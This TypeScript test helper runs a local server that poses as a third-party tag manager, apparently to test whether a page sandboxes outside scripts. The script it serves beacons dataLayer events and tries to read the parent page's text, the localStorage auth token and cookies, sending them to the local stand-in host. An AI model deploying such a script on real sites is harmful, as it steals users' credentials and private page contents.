import { once } from 'node:events'
import { createServer } from 'node:http'

/** Another company’s server: each request it was sent, with its body. */
export type Outside = {
  origin: string
  asked: { path: string; body: string; referer: string | undefined }[]
  close(): Promise<void>
}

// Script of a tag manager: reports each event to its server, and collects what it can reach.
const greedy = (origin: string) => `
const tell = (event) => { new Image().src = '${origin}/beacon?' + encodeURIComponent(JSON.stringify(event)) }
const reach = (what, look) => { try { tell({ event: 'reached', what, found: String(look()) }) } catch { tell({ event: 'shut', what }) } }
dataLayer.forEach(tell)
const push = dataLayer.push
dataLayer.push = (...events) => { events.forEach(tell); return push.apply(dataLayer, events) }
reach('page', () => parent.document.body.innerText)
reach('storage', () => localStorage.getItem('auth_token'))
reach('cookies', () => document.cookie)
`

/** Serves a tag manager’s script at `/tags.js`, and records every other request. */
export async function openOutside(): Promise<Outside> {
  const asked: Outside['asked'] = []
  let origin = ''
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (part) => (body += String(part)))
    request.on('end', () => {
      asked.push({ path: decodeURIComponent(request.url ?? ''), body, referer: request.headers.referer })
      if (request.url === '/tags.js') response.writeHead(200, { 'content-type': 'text/javascript' }).end(greedy(origin))
      else response.writeHead(200).end()
    })
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`
  return {
    origin,
    asked,
    async close() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}
